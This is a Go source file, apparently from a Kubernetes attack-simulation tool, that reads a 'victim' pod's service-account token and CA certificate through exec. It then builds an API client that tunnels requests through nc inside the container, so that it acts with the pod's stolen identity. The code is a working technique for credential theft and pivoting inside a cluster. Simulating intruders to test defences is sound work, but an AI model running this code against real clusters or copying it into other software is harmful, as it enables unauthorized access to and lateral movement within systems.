package cli

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"time"

	"k8s.io/client-go/rest"
)

// relay returns a client that speaks with the token of the pod from the address of the
// pod, as somebody who has a shell in it does: bytes go through nc in its container.
func (v *kubeVictim) relay(ctx context.Context) (*kubeAPI, error) {
	token, err := v.Run(ctx, "", "cat", tokenFile)
	if err != nil {
		return nil, err
	}
	ca, err := v.Run(ctx, "", "cat", strings.TrimSuffix(tokenFile, "token")+"ca.crt")
	if err != nil {
		return nil, err
	}
	at, err := v.Run(ctx, "", "/bin/sh", "-c", "echo $KUBERNETES_SERVICE_HOST $KUBERNETES_SERVICE_PORT")
	if err != nil {
		return nil, err
	}
	where := strings.Fields(at)
	if len(where) != 2 || token == "" || ca == "" {
		return nil, fmt.Errorf("the pod has no token, or does not know where its API server is: %s", strings.TrimSpace(at))
	}
	conf := &rest.Config{
		Host: "https://" + net.JoinHostPort(where[0], where[1]), BearerToken: strings.TrimSpace(token), UserAgent: agentByHand,
		TLSClientConfig: rest.TLSClientConfig{CAData: []byte(ca)},
		Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
			// The connection outlives the request that opens it.
			conn, err := v.api.open(context.WithoutCancel(ctx), v.namespace, v.pod, v.container, true, "nc", where[0], where[1])
			if err != nil {
				return nil, err
			}
			return &execConn{frames: conn}, nil
		},
		Proxy: func(*http.Request) (*url.URL, error) { return nil, nil },
	}
	return newKubeAPI(conf, agentByHand)
}

// execConn is the standard input and output of a command in a container, as a connection.
type execConn struct {
	frames
	left []byte // read, and not yet asked for
}

func (c *execConn) Read(p []byte) (int, error) {
	for len(c.left) == 0 {
		_, b, err := c.ReadMessage()
		switch {
		case err != nil:
			return 0, err
		case len(b) > 0 && b[0] == execStdout:
			c.left = b[1:]
		case len(b) > 0 && b[0] == execError:
			return 0, io.EOF
		}
	}
	n := copy(p, c.left)
	c.left = c.left[n:]
	return n, nil
}

func (c *execConn) Write(p []byte) (int, error) {
	if err := c.WriteMessage(binaryFrame, append([]byte{execStdin}, p...)); err != nil {
		return 0, err
	}
	return len(p), nil
}

// The ends have no addresses, and requests bound themselves by their contexts.
func (c *execConn) LocalAddr() net.Addr              { return &net.UnixAddr{Name: "exec"} }
func (c *execConn) RemoteAddr() net.Addr             { return &net.UnixAddr{Name: "exec"} }
func (c *execConn) SetDeadline(time.Time) error      { return nil }
func (c *execConn) SetReadDeadline(time.Time) error  { return nil }
func (c *execConn) SetWriteDeadline(time.Time) error { return nil }
